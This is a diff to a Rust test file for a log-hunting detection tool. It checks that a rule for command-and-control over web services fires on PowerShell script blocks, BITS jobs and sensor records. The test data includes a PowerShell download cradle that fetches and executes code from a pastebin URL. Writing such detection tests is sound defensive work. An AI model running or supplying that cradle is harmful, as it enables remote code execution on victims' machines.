@@ -178,7 +178,8 @@ fn platform_functions_read_the_samples() {
 fn coverage_says_which_rules_can_fire_and_why_not() {
     let output = vidette(&["coverage", "samples/", "--format", "json"]);
     let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
-    assert!(report["rules"].as_array().is_some_and(|rules| rules.iter().all(|rule| rule["canFire"] == "yes")), "{report}");
+    assert_eq!((&report["rules"][0]["canFire"], &report["rules"][1]["canFire"]), (&"yes".into(), &"in part".into()), "{report}");
+    assert_eq!(report["rules"][1]["why"][0], "DeviceEvents has no row of PowerShellCommand");
     assert_eq!(report["hosts"].as_array().map(Vec::len), Some(4));
     // Without DNS and with no network names, the hardened rule still has the command lines.
     let folder = tempfile::tempdir().expect("a folder");
@@ -215,9 +216,43 @@ fn a_copy_of_a_log_gives_no_alert_twice() {
     let sample = std::fs::read(root().join("samples/test1-dropbox-powershell.sysmon.jsonl")).expect("a sample");
     let alerts = |files: &[&str]| {
         files.iter().for_each(|name| std::fs::write(folder.path().join(name), &sample).expect("a file"));
-        text(&vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]).stdout).to_owned()
+        let output = text(&vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]).stdout);
+        let alerts = output.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
+        alerts.map(|alert| format!("{} {} {}", alert["time"], alert["title"], alert["customDetails"]["Events"])).collect::<Vec<_>>()
     };
     let once = alerts(&["a.jsonl"]);
     assert!(!once.is_empty());
     assert_eq!(alerts(&["a.jsonl", "copy.jsonl"]), once);
+}
+
+/// What the hardened rule says of one event.
+fn hardened(event: &str) -> Vec<String> {
+    let folder = tempfile::tempdir().expect("a folder");
+    std::fs::write(folder.path().join("event.jsonl"), event).expect("a file");
+    let output = vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]);
+    let lines = text(&output.stdout);
+    let alerts = lines.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
+    alerts.filter(|alert| alert["ruleName"] == "Bidirectional communication over web services").map(|alert| format!("{} {}", alert["severity"], alert["title"])).collect()
+}
+
+#[test]
+fn script_blocks_jobs_and_sensors_are_evidence_too() {
+    let event = |provider: &str, id: u32, data: &str| {
+        format!(
+            r#"{{"Event":{{"System":{{"Provider":{{"Name":"{provider}"}},"EventID":{id},"TimeCreated":{{"SystemTime":"2026-03-10T09:00:00Z"}},"EventRecordID":7,"Channel":"c","Computer":"h","Execution":{{"ProcessID":44}}}},"EventData":{data}}}}}"#
+        )
+    };
+    let block = |text: &str| {
+        event("Microsoft-Windows-PowerShell", 4104, &serde_json::json!({"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text, "ScriptBlockId": "s"}).to_string())
+    };
+    let job = |title: &str, url: &str| event("Microsoft-Windows-Bits-Client", 59, &serde_json::json!({"name": title, "Id": "{1}", "url": url, "bytesTotal": "1"}).to_string());
+    let cradle = "# a comment\nIEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/abcd')";
+    assert_eq!(hardened(&block(cradle)), [r#""High" "powershell.exe on h uses Pastebin""#]);
+    assert_eq!(hardened(&job("539cd7d7.png", "https://i.imgur.com/539cd7d7.png")), [r#""Medium" "svchost.exe on h uses Imgur""#]);
+    let sensor = r#"{"ts":1773133200.5,"uid":"C1","id.orig_h":"10.0.1.5","id.orig_p":50000,"id.resp_h":"13.107.42.12","id.resp_p":443,"server_name":"d.docs.live.net"}"#;
+    assert_eq!(hardened(sensor), [r#""High" "a program on 10.0.1.5 uses OneDrive WebDAV/consumer storage""#]);
+    // Near misses: a module that names its home, an updater's job, a browser's host at the sensor.
+    assert!(hardened(&block("@{ ModuleVersion = '2.1'; ProjectUri = 'https://github.com/a/b' }\nInvoke-WebRequest $Uri")).is_empty());
+    assert!(hardened(&job("Chrome Component Updater", "https://storage.googleapis.com/update/x.crx3")).is_empty());
+    assert!(hardened(&sensor.replace("d.docs.live.net", "github.com")).is_empty());
 }
